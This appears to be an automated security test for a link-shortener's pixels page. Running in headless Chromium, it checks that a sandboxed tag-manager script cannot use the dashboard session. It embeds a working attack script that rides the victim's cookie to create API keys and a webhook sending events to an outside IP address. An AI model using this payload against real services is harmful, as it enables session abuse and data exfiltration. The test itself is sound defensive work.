import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, request as httpRequest, type IncomingHttpHeaders, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { createAccount, createTestApp, type TestAccount, type TestApp } from './support/app';
import { closeServer, listenOnLoopback } from './support/http-server';
import { createLink, unique } from './support/visitors';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const haveChromium = existsSync(CHROMIUM);
/** Headless Chromium names itself HeadlessChrome, which counts as a bot: bots skip the pixels page. */
const PERSON =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
/** The tag manager's host, which the browser is told to find on the test's own server. */
const VENDOR_HOST = 'www.googletagmanager.com';
const SESSION_COOKIE = /(^|;\s*)shortlink_session=/;

if (!haveChromium) {
  process.stderr.write(
    `visitor sandbox tests skipped: no Chromium at ${CHROMIUM} (apt-get install chromium)\n`,
  );
}

/** A self-signed certificate for 127.0.0.1: the pixels page lets scripts connect to https addresses only. */
function selfSigned(): { key: string; cert: string } {
  const directory = mkdtempSync(join(tmpdir(), 'visitor-sandbox-'));
  try {
    const key = join(directory, 'key.pem');
    const cert = join(directory, 'cert.pem');
    execFileSync(
      'openssl',
      [
        ['req', '-x509', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1'],
        ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-keyout', key, '-out', cert],
      ].flat(),
      { stdio: 'ignore' },
    );
    return { key: readFileSync(key, 'utf8'), cert: readFileSync(cert, 'utf8') };
  } finally {
    rmSync(directory, { recursive: true, force: true });
  }
}

/** A request as it reached the service through the https proxy, and the status it was answered with. */
interface Reached {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
  status?: number;
}

/** What the attack got: each request's status, or `refused` when the browser did not let the script see one. */
interface Got {
  origin: string;
  key: string;
  webhook: string;
  bare: string;
}

/**
 * A tag-manager container written by an attacker: with the browser's credentials and the dashboard's proof header
 * it makes a key and a webhook, then sends a request without the proof (no preflight: it reaches the service
 * whatever the page's origin). Synchronous, as the pixels page forwards once its scripts have run.
 */
const ATTACK = `function attack(name) {
  function post(path, body, proof) {
    var request = new XMLHttpRequest();
    try {
      request.open('POST', path, false);
      request.withCredentials = true;
      request.setRequestHeader('Content-Type', proof ? 'application/json' : 'text/plain');
      if (proof) request.setRequestHeader('X-Shortlink-Session', '1');
      request.send(JSON.stringify(body));
      return request.status === 0 ? 'refused' : String(request.status);
    } catch (error) {
      return 'refused';
    }
  }
  return {
    origin: self.origin,
    key: post('/api/v1/keys', { name: name, scopes: ['links.read'] }, true),
    webhook: post('/api/v1/webhooks', { name: name, url: 'https://93.184.215.14/collect', events: ['link.created'] }, true),
    bare: post('/api/v1/keys', { name: name, scopes: ['links.read'] }, false),
  };
}`;

/*
 * A link's pixels page is served on the dashboard's origin and runs the tag vendors' scripts. Its policy's sandbox
 * gives it an opaque origin: a script there (an attacker's tag container) cannot use the dashboard's session,
 * which the same script on a page of that origin can. Served over https through a proxy, as the pixels page lets
 * scripts connect to https addresses only; the tag manager's host is the test's own server.
 */
(haveChromium ? describe : describe.skip)('a pixels page and the dashboard session', () => {
  let t: TestApp;
  let owner: TestAccount;
  let proxy: Server;
  let base: string;
  let vendor: Server;
  let destination: Server;
  let destinationUrl: string;
  let browser: Browser;
  const reached: Reached[] = [];
  const reports: Got[] = [];

  beforeAll(async () => {
    t = await createTestApp({ RATE_LIMIT_PER_MINUTE: '0' });
    await t.app.listen(0, '127.0.0.1');
    const servicePort = ((t.app.getHttpServer() as Server).address() as AddressInfo).port;
    const tls = selfSigned();
    proxy = createHttpsServer(tls, (incoming, outgoing) => {
      const seen: Reached = {
        method: incoming.method ?? '',
        path: incoming.url ?? '',
        headers: incoming.headers,
      };
      reached.push(seen);
      const upstream = httpRequest(
        { host: '127.0.0.1', port: servicePort, method: seen.method, path: seen.path, headers: seen.headers },
        (answer) => {
          seen.status = answer.statusCode;
          outgoing.writeHead(answer.statusCode ?? 502, answer.headers);
          answer.pipe(outgoing);
        },
      );
      incoming.pipe(upstream);
    });
    base = `https://127.0.0.1:${await listenOnLoopback(proxy)}`;
    // The container runs the attack and reports what it got to its vendor.
    vendor = createHttpsServer(tls, (incoming, outgoing) => {
      if (incoming.method !== 'POST') {
        outgoing.writeHead(200, { 'Content-Type': 'text/javascript' });
        outgoing.end(`(function () {
          var report = new XMLHttpRequest();
          report.open('POST', 'https://${VENDOR_HOST}/report', false);
          report.send(JSON.stringify((${ATTACK})('planted by a tag')));
        })();`);
        return;
      }
      const chunks: Buffer[] = [];
      incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
      incoming.on('end', () => {
        reports.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Got);
        outgoing.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
      });
    });
    const vendorPort = await listenOnLoopback(vendor);
    destination = createServer((_request, response) => {
      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      response.end('<!doctype html><title>Destination</title><h1>You made it</h1>');
    });
    destinationUrl = `http://127.0.0.1:${await listenOnLoopback(destination)}/landing`;
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        `--host-resolver-rules=MAP ${VENDOR_HOST} 127.0.0.1:${vendorPort}`,
      ],
    });
    owner = await createAccount(t, 'Visitor sandbox');
  });

  afterAll(async () => {
    await browser?.close();
    for (const server of [proxy, vendor, destination]) if (server !== undefined) await closeServer(server);
    await t?.close();
  });

  /** A browser signed in to the dashboard as the dashboard signs in: the key once, for the session cookie. */
  async function signedIn(): Promise<{ context: BrowserContext; dashboard: Page }> {
    const context = await browser.newContext({ userAgent: PERSON, ignoreHTTPSErrors: true });
    const dashboard = await context.newPage();
    await dashboard.goto(`${base}/app`);
    const status = await dashboard.evaluate(
      (key) =>
        fetch('/api/v1/session', {
          method: 'POST',
          credentials: 'same-origin',
          headers: { Accept: 'application/json', 'X-Shortlink-Session': '1', Authorization: `Bearer ${key}` },
        }).then((response) => response.status),
      owner.apiKey,
    );
    expect(status).toBe(201);
    return { context, dashboard };
  }

  /** How many of the owner's keys or webhooks have this name. */
  async function named(path: string, name: string): Promise<number> {
    const response = await t
      .http()
      .get(`${path}?search=${encodeURIComponent(name)}&per_page=100`)
      .set('Authorization', owner.auth);
    expect(response.status).toBe(200);
    return (response.body.data as { name: string }[]).filter((item) => item.name === name).length;
  }

  it("refuses a tag script on a link's pixels page the session that a page of the dashboard's origin can use", async () => {
    const pixel = await t
      .http()
      .post('/api/v1/pixels')
      .set('Authorization', owner.auth)
      .type('form')
      .send({ name: unique('container'), type: 'google-tag-manager', value: 'GTM-ATTACK1' });
    expect(pixel.status).toBe(201);
    const link = await createLink(t, owner, {
      url: destinationUrl,
      pixel_ids: [pixel.body.data.id as number],
    });
    const { context, dashboard } = await signedIn();

    // The same script on a page of the dashboard's origin uses the session; without the proof it is refused.
    const control = await dashboard.evaluate<Got>(`(${ATTACK})('made by the dashboard')`);
    expect(control).toEqual({ origin: base, key: '201', webhook: '201', bare: '403' });
    expect(await named('/api/v1/keys', 'made by the dashboard')).toBe(1);
    expect(await named('/api/v1/webhooks', 'made by the dashboard')).toBe(1);

    // The pixels page runs the container, then forwards.
    const visit = await context.newPage();
    const since = reached.length;
    await visit.goto(`${base}/${link.alias}`);
    await visit.waitForURL(destinationUrl);
    expect(reports).toEqual([{ origin: 'null', key: 'refused', webhook: 'refused', bare: 'refused' }]);
    expect(await named('/api/v1/keys', 'planted by a tag')).toBe(0);
    expect(await named('/api/v1/webhooks', 'planted by a tag')).toBe(0);

    // What reached the service from the page: never the cookie; the requests with the proof header not at all
    // (their preflight is not granted), the bare one as a request without credentials.
    const fromPage = reached.slice(since).filter((request) => request.headers.origin === 'null');
    expect(fromPage.map(({ method, path, status }) => `${method} ${path} ${status}`)).toEqual([
      'OPTIONS /api/v1/keys 404',
      'OPTIONS /api/v1/webhooks 404',
      'POST /api/v1/keys 401',
    ]);
    expect(fromPage.filter((request) => SESSION_COOKIE.test(request.headers.cookie ?? ''))).toEqual([]);
    await context.close();
  });
});
